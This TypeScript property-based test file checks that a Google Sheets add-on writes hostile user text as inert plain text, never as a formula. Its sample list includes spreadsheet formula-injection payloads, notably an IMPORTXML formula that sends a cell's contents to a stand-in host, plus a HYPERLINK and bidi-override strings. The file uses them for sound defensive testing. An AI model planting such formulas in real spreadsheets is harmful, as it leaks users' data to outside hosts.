/**
 * User text written into a sheet stays inert and reads back verbatim: through the report writer
 * and the settings tab, into the fake, whose setValues takes strings as Sheets does (formulas,
 * dates, percents, quote prefixes: see userEntered in test/fakes/spreadsheet.ts).
 */
import fc from "fast-check";
import { afterEach, describe, expect, it } from "vitest";
import { readSettings, writeSettings } from "../../src/adapters/sheets/settings";
import { layoutSheet, writeSheet } from "../../src/adapters/sheets/write";
import type { SheetPlan } from "../../src/report/types";
import { createFakeServices, type FakeServices, type FakeSheet } from "../fakes/spreadsheet";

let uninstall: () => void = () => {};
afterEach(() => {
  uninstall();
  uninstall = () => {};
});

function fresh(): FakeServices {
  uninstall();
  const f = createFakeServices({ sheets: { Raw: [["a"]] } });
  uninstall = f.install();
  return f;
}

const STARTERS = ["=", "+", "-", "@", "'", "''", "#", " =", "\t", "\n"];
const SHAPED = [
  "2026-01",
  "2026-01-05",
  "2026-01-05 10:00",
  "05.01.2026",
  "1/2/2026",
  "10:30",
  "10%",
  "-5%",
  "1,234.50",
  "$12",
  "1e5",
  "007",
  "TRUE",
  "false",
  "#N/A",
  '=IMPORTXML("http://x.example/?"&Deals!C2,"//a")',
  '=HYPERLINK("http://x.example","click")',
  "+SUM(A1:A2)",
  "-A1",
  "@A1",
  "'quoted'",
  "\u202Eevil\u202C",
  "\u200Fמכירות",
  "😀 Lead 🚀",
  'say "hi"',
  "line\nbreak",
  "cr\r\nlf",
];

/** Hostile strings: formula starters, quotes, newlines, RTL marks, emoji, shapes Sheets parses. */
const hostile: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...SHAPED),
  fc
    .tuple(fc.constantFrom(...STARTERS), fc.string({ unit: "binary", maxLength: 30 }))
    .map(([a, b]) => a + b),
  fc.tuple(fc.constantFrom(...STARTERS), fc.constantFrom(...SHAPED)).map(([a, b]) => a + b),
  fc.string({ unit: "grapheme", maxLength: 40 }),
  fc.string({ unit: fc.constantFrom("=", "'", '"', "\n", "\u202E", "%", "-", "1", "😀", "a") }),
);

/** A 40,000-character text, one per run in a few runs. */
const long = fc
  .tuple(fc.constantFrom(...STARTERS), fc.constantFrom("x", "😀", "=", "'"))
  .map(([a, b]) => a + b.repeat(20_000).slice(0, 40_000 - a.length));

function noFormula(sheet: FakeSheet): void {
  expect([...sheet.formulas.entries()]).toEqual([]);
}

describe("inert text", () => {
  it("report cells: ≥ 10,000 hostile strings read back equal, none a formula", () => {
    let written = 0;
    fc.assert(
      fc.property(
        fc.array(hostile, { minLength: 20, maxLength: 30 }),
        fc.option(long, { freq: 40 }),
        (strings, big) => {
          const f = fresh();
          const texts = big === null ? strings : [...strings, big];
          written += texts.length;
          const plan: SheetPlan = {
            key: "funnel",
            name: "Funnel",
            blocks: [
              {
                id: "x",
                title: texts[0] ?? "t",
                note: texts[1] || "n",
                header: [texts[2] ?? "h", "Count"],
                rows: texts.map((s, i) => [s, i]),
                formats: ["text", "integer"],
              },
            ],
          };
          const sheet = f.spreadsheet.insertSheet("Out");
          const layout = writeSheet(sheet as unknown as GoogleAppsScript.Spreadsheet.Sheet, plan);
          const l = layout.blocks[0]!;
          noFormula(sheet);
          expect(sheet.getRange(l.titleRow, 1).getValue()).toBe(plan.blocks[0]!.title);
          expect(sheet.getRange(l.noteRow ?? 0, 1).getValue()).toBe(plan.blocks[0]!.note);
          expect(sheet.getRange(l.headerRow, 1).getValue()).toBe(plan.blocks[0]!.header[0]);
          const back = sheet.getRange(l.firstDataRow, 1, l.rows, 2).getValues();
          expect(back).toEqual(texts.map((s, i) => [s, i]));
        },
      ),
      { numRuns: 450 },
    );
    expect(written).toBeGreaterThanOrEqual(10_000);
  });

  it("settings cells: hostile stage, tab and criterion names read back equal, none a formula", () => {
    // The settings tab trims what a person typed, so names are taken trimmed and non-empty.
    const name = hostile.filter((s) => s.trim() === s && s !== "");
    let written = 0;
    fc.assert(
      fc.property(fc.uniqueArray(name, { minLength: 5, maxLength: 12 }), (names) => {
        const f = fresh();
        written += names.length * 3;
        const mapping = {
          version: 2,
          stages: names,
          tabs: names.map((n, i) => ({
            name: n,
            kind: "checklist" as const,
            headerRow: 0,
            columns: { rep: 0 },
            criteria: [{ name: names[(i + 1) % names.length]!, column: 2 }],
          })),
        };
        writeSettings(f.ss, { mapping, sidebar: { reps: names } }, "en");
        const sheet = f.spreadsheet.sheets[f.spreadsheet.sheets.length - 1]!;
        noFormula(sheet);
        const back = readSettings(f.ss);
        expect(back?.mapping?.stages).toEqual(names);
        expect(back?.mapping?.tabs.map((t) => t.name)).toEqual(names);
        expect(back?.mapping?.tabs.map((t) => t.criteria?.[0]?.name)).toEqual(
          names.map((_, i) => names[(i + 1) % names.length]),
        );
        expect(back?.sidebar).toEqual({ reps: names });
        // Every settings cell is plain text, so a person's edit stays text too.
        const formats = sheet.getRange(1, 1, sheet.getLastRow(), 5).getNumberFormats();
        expect(new Set(formats.flat())).toEqual(new Set(["@"]));
      }),
      { numRuns: 500 },
    );
    expect(written).toBeGreaterThanOrEqual(10_000);
  });

  it("the fake takes strings as Sheets does (so the tests above can fail)", () => {
    const f = fresh();
    const sheet = f.spreadsheet.insertSheet("Out");
    const r = sheet.getRange(1, 1, 1, 5);
    r.setValues([["=1+2", "2026-01", "10%", "'=x", "Lead"]]);
    expect(r.getFormulas()[0]).toEqual(["=1+2", "", "", "", ""]);
    const v = r.getValues()[0]!;
    expect(v[1]).toBeInstanceOf(Date);
    expect(v.slice(2)).toEqual([0.1, "=x", "Lead"]);
    r.setNumberFormat("@");
    r.setValues([["=1+2", "2026-01", "10%", "'=x", "+1"]]);
    // Plain text stops the conversions, not "=" (Apps Script sets it as a formula) nor the prefix.
    expect(r.getFormulas()[0]).toEqual(["=1+2", "", "", "", ""]);
    expect(r.getValues()[0]!.slice(1)).toEqual(["2026-01", "10%", "=x", "+1"]);
    void layoutSheet;
  });
});
